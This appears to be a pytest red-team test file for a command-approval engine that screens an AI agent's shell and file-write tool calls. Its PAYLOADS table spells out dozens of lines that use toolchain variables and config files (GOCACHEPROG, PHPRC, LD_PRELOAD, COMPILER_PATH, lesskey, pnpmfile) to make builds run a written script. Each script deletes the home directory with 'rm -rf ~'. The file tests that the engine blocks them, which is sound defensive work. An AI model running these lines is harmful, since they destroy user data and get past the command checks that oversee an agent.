"""Toolchain variables and configuration files that make an ordinary build or run load code the
caller chose (stop 44, env44).

Surveyed per ecosystem (go, php, ruby/bundler, rust/cargo, node, python, perl, java, dotnet, less,
gcc, ld.so, bash/zsh, ssh, gpg, curl/wget, make, cmake): most were already read (cargo's runners and
wrappers, NODE_OPTIONS, PYTHONPATH's sitecustomize/.pth, PERL5LIB, JAVA_TOOL_OPTIONS, .mvn/jvm.config,
gradle init scripts, BASH_ENV, ZDOTDIR, MAKEFILES, CMAKE_TOOLCHAIN_FILE, SSH_ASKPASS, GNUPGHOME ...).
Found allowed, and fixed (policies/executors.yaml rows, paths.yaml, vcs.yaml):

- go: `GOCACHEPROG=PROG go build` (the cache program every go command starts; a written one, the
  variable exported earlier or given through `env`), `GOAUTH='command CMD'`, `GOENV=FILE` (a written
  go env file's GOFLAGS=-toolexec=), `go env -w GOCACHEPROG=`.
- php: `PHPRC=FILE|DIR`, `PHP_INI_SCAN_DIR=DIR`, `php -c FILE` (an ini's auto_prepend_file;
  `-c` was read as a flag, so its file was taken for the program).
- bundler: a written `.bundle/config` (BUNDLE_GEMFILE), `BUNDLE_APP_CONFIG=DIR`, `bundle install
  --gemfile=G` (an option after the verb was not read), `bundle config set gemfile G`; write_file
  of `.bundle/config`, `~/.config/lesskey`, `~/.config/go/env` now asks.
- less: `XDG_CONFIG_HOME=. less` after writing ./lesskey (the working directory `.` was never a
  folder anything was written in: engine/policy/shell.py and session_memory.py `touched`).
- ld.so: `LD_PRELOAD=./a.so` / `LD_AUDIT` of a shared object the line wrote (read as shell text,
  allowed); .NET's `DOTNET_STARTUP_HOOKS`.
- gcc: `COMPILER_PATH=DIR`, `GCC_EXEC_PREFIX=DIR/` (the as, collect2, cc1 it runs from there); a
  search list's later folders (`COMPILER_PATH=/usr/lib/gcc:d`, `PHP_INI_SCAN_DIR=/etc/php.d:d`).
- npm/pnpm: `npm_config_init_module=./i.js npm init`, `npm_config_onload_script`, `pnpm install
  --pnpmfile h.cjs`, `npm_config_(global_)pnpmfile` (JavaScript they load).
- java: `JDK_JAVA_OPTIONS=@args` (a written argument file: -javaagent:, -XX:OnError=).

Verified harmless or already read: INPUTRC (readline macros only type text when a key is pressed);
cargo's `[alias]`/`[env]` in .cargo/config.toml, .npmrc, .yarnrc.yml, pip.conf, gradle.properties,
.mvn/jvm.config, GIT_CONFIG_*, GIT_EXEC_PATH, HGRCPATH, ENV, CLASSPATH (ask or read).
Open: nothing as a strict xfail. Noticed: `GOTOOLCHAIN=goX GOPROXY=URL GOSUMDB=off go build` runs a
toolchain from the caller's proxy, as `go run evil.example/m@latest` (allowed by design) runs a
module by name.
"""

from __future__ import annotations

import shlex
from collections.abc import Iterator
from pathlib import Path

import pytest

from engine import Engine
from tests.redteam.conftest import judge
from tests.redteam.harm import harm_project, written_then_stopped

RM = "rm -rf ~"
SCRIPT = f"#!/bin/sh\n{RM}\n"
BUNDLE_CONFIG = '---\nBUNDLE_GEMFILE: "G"\n'
JS = 'require("child_process").execSync("rm -rf ~")\n'
ELF = "printf '\\177ELF\\2\\1\\1'"

# name -> (files the line writes first, the command)
PAYLOADS: dict[str, tuple[dict[str, str], str]] = {
    "GOCACHEPROG, a written program": ({"x": SCRIPT}, "GOCACHEPROG=./x go build"),
    "GOCACHEPROG, exported before": ({"x": SCRIPT}, "export GOCACHEPROG=./x; go build ./..."),
    "GOCACHEPROG, through env": ({"x": SCRIPT}, "env GOCACHEPROG=./x go test ./..."),
    "GOCACHEPROG, a command line": ({}, f"GOCACHEPROG='sh -c \"{RM}\"' go build"),
    "GOAUTH command": ({}, f"GOAUTH='netrc;command {RM}' go get a.example/m"),
    "GOENV, a written env file": ({"x": SCRIPT, "g": "GOFLAGS=-toolexec=./x\n"}, "GOENV=g go build"),
    "go env -w GOCACHEPROG": ({}, "go env -w GOCACHEPROG=./x"),
    "PHPRC, a folder's php.ini": (
        {"p.php": f'<?php system("{RM}");', "c/php.ini": "auto_prepend_file=p.php\n"},
        "PHPRC=c php a.php",
    ),
    "PHPRC, the working directory": ({"php.ini": "auto_prepend_file=p.php\n"}, "PHPRC=. php a.php"),
    "PHPRC, a file": ({"my.ini": "auto_prepend_file=p.php\n"}, "PHPRC=my.ini php a.php"),
    "PHP_INI_SCAN_DIR": ({"d/x.ini": "auto_append_file=p.php\n"}, "PHP_INI_SCAN_DIR=:d php a.php"),
    "php -c": ({"my.ini": "extension=./x.so\n"}, "php -c my.ini a.php"),
    ".bundle/config BUNDLE_GEMFILE": ({"G": f'system("{RM}")\n', ".bundle/config": BUNDLE_CONFIG}, "bundle exec rake"),
    "BUNDLE_APP_CONFIG": (
        {"G": f'system("{RM}")\n', "cfg/config": BUNDLE_CONFIG},
        "BUNDLE_APP_CONFIG=cfg bundle install",
    ),
    "bundle install --gemfile": ({"G": f'system("{RM}")\n'}, "bundle install --gemfile=G"),
    "bundle config set gemfile": ({"G": f'system("{RM}")\n'}, "bundle config set --local gemfile G; bundle install"),
    "XDG_CONFIG_HOME=. lesskey": ({"lesskey": f"#env\nLESSOPEN=|{RM} %s\n"}, "XDG_CONFIG_HOME=. less README"),
    "~/.config/lesskey": ({"~/.config/lesskey": f"#env\nLESSOPEN=|{RM} %s\n"}, "less README"),
    # a shared object's bytes (printf's octal escapes): machine code, not a script
    "LD_PRELOAD, a written object": ({}, f"{ELF} > a.so; LD_PRELOAD=./a.so ls"),
    "LD_AUDIT, exported": ({}, f"{ELF} > a.so; export LD_AUDIT=a.so; ls"),
    "DOTNET_STARTUP_HOOKS": ({"h.dll": "MZ"}, "DOTNET_STARTUP_HOOKS=./h.dll dotnet run"),
    "COMPILER_PATH": ({"d/as": SCRIPT}, "COMPILER_PATH=d gcc -c a.c"),
    "GCC_EXEC_PREFIX": ({"d/x86_64-linux-gnu/12/cc1": SCRIPT}, "GCC_EXEC_PREFIX=d/ gcc -c a.c"),
    "COMPILER_PATH, the second folder": ({"d/as": SCRIPT}, "COMPILER_PATH=/usr/lib/gcc:d gcc -c a.c"),
    "PHP_INI_SCAN_DIR, the second folder": (
        {"d/x.ini": "auto_prepend_file=p.php\n"},
        "PHP_INI_SCAN_DIR=/etc/php.d:d php a.php",
    ),
    "npm init-module": ({"i.js": JS}, "npm_config_init_module=./i.js npm init -y"),
    "npm init-module, upper case": ({"i.js": JS}, "NPM_CONFIG_INIT_MODULE=./i.js npm init -y"),
    "npm onload-script": ({"i.js": JS}, "npm_config_onload_script=./i.js npm ls"),
    "pnpm install --pnpmfile": ({"h.cjs": JS}, "pnpm install --pnpmfile h.cjs"),
    "pnpm --pnpmfile=": ({"h.cjs": JS}, "pnpm --pnpmfile=h.cjs add left-pad"),
    "npm_config_global_pnpmfile": ({"h.cjs": JS}, "npm_config_global_pnpmfile=h.cjs pnpm install"),
    "JDK_JAVA_OPTIONS @argfile": ({"args": "-javaagent:x.jar\n"}, "JDK_JAVA_OPTIONS=@args java -jar a.jar"),
}

NEAR_MISSES: dict[str, tuple[dict[str, str], str]] = {
    "GOFLAGS=-mod=mod": ({}, "GOFLAGS=-mod=mod go build"),
    "GOOS": ({}, "GOOS=linux GOARCH=arm64 go build ./..."),
    "GOENV=off": ({"src/a.go": "package a\n"}, "GOENV=off go build"),
    "GOAUTH=netrc": ({}, "GOAUTH=netrc go get a.example/m"),
    "go env -w GO111MODULE": ({}, "go env -w GO111MODULE=on"),
    "PHP_INI_SCAN_DIR empty": ({}, "PHP_INI_SCAN_DIR= php a.php"),
    "php -c the system's ini": ({}, "php -c /etc/php/8.2/cli/php.ini a.php"),
    "php -n": ({}, "php -n a.php"),
    "php, an ini nobody wrote": ({}, "PHPRC=/etc/php/8.2/cli php a.php"),
    "bundle install --jobs": ({}, "bundle install --jobs 4"),
    "bundle, a plain Gemfile": ({"Gemfile": 'source "https://rubygems.org"\ngem "rails"\n'}, "bundle install"),
    "bundle config set path": ({}, "bundle config set --local path vendor/bundle"),
    "BUNDLE_APP_CONFIG, a config nobody wrote": (
        {"notes.txt": "x\n"},
        "BUNDLE_APP_CONFIG=/opt/app/.bundle bundle install",
    ),
    "RUSTFLAGS=-Dwarnings": ({}, "RUSTFLAGS=-Dwarnings cargo build"),
    "CARGO_TARGET_DIR": ({}, "CARGO_TARGET_DIR=out cargo build"),
    "LESS=-R": ({}, "LESS=-R less f"),
    "XDG_CONFIG_HOME elsewhere": ({"notes.txt": "x\n"}, "XDG_CONFIG_HOME=/tmp/cfg less README"),
    "NODE_ENV": ({}, "NODE_ENV=production node a.js"),
    "COMPILER_PATH, the system's": ({}, "COMPILER_PATH=/usr/lib/gcc gcc -c a.c"),
    "gcc, a written source": ({"a.c": "int main(void) { return 0; }\n"}, "gcc -O2 a.c"),
    "DOTNET_STARTUP_HOOKS nobody wrote": ({}, "DOTNET_STARTUP_HOOKS=/opt/h.dll dotnet run"),
    "COMPILER_PATH, folders nobody wrote": ({"notes.txt": "x\n"}, "COMPILER_PATH=/usr/lib/gcc:/opt/gcc gcc -c a.c"),
    "PHP_INI_SCAN_DIR, folders nobody wrote": ({}, "PHP_INI_SCAN_DIR=/etc/php.d:/opt/php.d php a.php"),
    "npm init": ({}, "npm init -y"),
    "pnpm install": ({}, "pnpm install --frozen-lockfile"),
    "pnpm's own .pnpmfile.cjs": ({}, "pnpm install --pnpmfile .pnpmfile.cjs"),
    "JDK_JAVA_OPTIONS, an @ in a value": ({}, "JDK_JAVA_OPTIONS='-Xmx2g -Dmail=a@b.example' java -jar a.jar"),
}


def on_the_line(files: dict[str, str], command: str) -> str:
    writes = [f"printf %s {shlex.quote(text)} > {path}" for path, text in files.items()]
    return "; ".join([*writes, command])


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_a_toolchain_variable_or_config_loading_written_code_is_not_allowed(engine: Engine, name: str) -> None:
    files, command = PAYLOADS[name]
    line = on_the_line(files, command)
    assert judge(engine, line).decision != "allow", line


@pytest.mark.parametrize("name", list(NEAR_MISSES))
def test_near_miss_ordinary_toolchain_settings_stay_allowed(engine: Engine, name: str) -> None:
    files, command = NEAR_MISSES[name]
    line = on_the_line(files, command)
    assert judge(engine, line).decision == "allow", line


def test_without_the_variable_the_same_writes_are_allowed(engine: Engine) -> None:
    """The verdicts above come from the variables: the same files written, the plain command runs."""
    for files, command, plain in [
        ({"x": SCRIPT}, "GOCACHEPROG=./x go build", "go build"),
        ({"my.ini": "auto_prepend_file=p.php\n"}, "PHPRC=my.ini php a.php", "php a.php"),
        ({}, f"{ELF} > a.so; LD_PRELOAD=./a.so ls", f"{ELF} > a.so; ls"),
        ({"lesskey": f"#env\nLESSOPEN=|{RM} %s\n"}, "XDG_CONFIG_HOME=. less README", "less README"),
        ({"h.cjs": JS}, "pnpm install --pnpmfile h.cjs", "pnpm install"),
        ({"d/as": SCRIPT}, "COMPILER_PATH=/usr/lib/gcc:d gcc -c a.c", "gcc -c a.c"),
    ]:
        assert judge(engine, on_the_line(files, plain)).decision == "allow", plain
        assert judge(engine, on_the_line(files, command)).decision != "allow", command


@pytest.mark.parametrize(
    "path",
    [
        ".bundle/config",
        "sub/.bundle/config",
        "~/.config/lesskey",
        "~/.config/go/env",
    ],
)
def test_write_file_of_a_toolchain_config_asks(engine: Engine, path: str) -> None:
    verdict = engine._evaluator(engine.snapshot).verdict("write_file", {"path": path, "content": "x"}, None)
    assert verdict.decision == "ask", (path, verdict)


@pytest.mark.parametrize("path", ["Gemfile.lock", ".bundle/README", "src/config", ".mvn/jvm.config"])
def test_near_miss_write_file_of_ordinary_project_files(engine: Engine, path: str) -> None:
    verdict = engine._evaluator(engine.snapshot).verdict("write_file", {"path": path, "content": "x"}, None)
    assert verdict.decision == "allow", (path, verdict)


@pytest.mark.parametrize(
    ("files", "command"),
    [
        ({"php.ini": "auto_prepend_file=p.php\n"}, "PHP_INI_SCAN_DIR=. php a.php"),
        ({"lesskey": f"#env\nLESSOPEN=|{RM} %s\n"}, "XDG_CONFIG_HOME=. less README"),
        ({"G": f'system("{RM}")\n', ".bundle/config": BUNDLE_CONFIG}, "bundle install"),
        ({"x": SCRIPT}, "GOCACHEPROG=./x go build"),
    ],
)
def test_a_config_the_session_wrote_earlier_is_read(
    work_engine: Engine, work: Path, files: dict[str, str], command: str
) -> None:
    memory = work_engine.session_memory
    for path, text in files.items():
        memory.wrote("s1", str(work), path, text)
    evaluator = work_engine._evaluator(work_engine.snapshot)
    verdict = evaluator.verdict("terminal", {"command": command}, memory.view("s1", str(work)))
    assert verdict.decision != "allow", (command, verdict)


# -- live: gcc and less are installed here -------------------------------------------


@pytest.fixture
def harm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Engine, Path]]:
    with harm_project(tmp_path, monkeypatch) as (loaded, home, _):
        yield loaded, home


def test_compiler_path_runs_a_written_assembler_and_the_engine_stops_it(
    tmp_path: Path, harm: tuple[Engine, Path]
) -> None:
    engine, home = harm
    written_then_stopped(
        tmp_path, engine, home, {"d/as": SCRIPT}, "COMPILER_PATH=d gcc -c a.c", present={"a.c": "int x;\n"}, mode=0o755
    )


def test_a_written_lesskey_in_the_config_folder_runs_and_the_engine_stops_it(
    tmp_path: Path, harm: tuple[Engine, Path]
) -> None:
    engine, home = harm
    written_then_stopped(
        tmp_path,
        engine,
        home,
        {"lesskey": f"#env\nLESSOPEN=|{RM} %s\n"},
        "XDG_CONFIG_HOME=. less README </dev/null",
        present={"README": "hi\n"},
    )
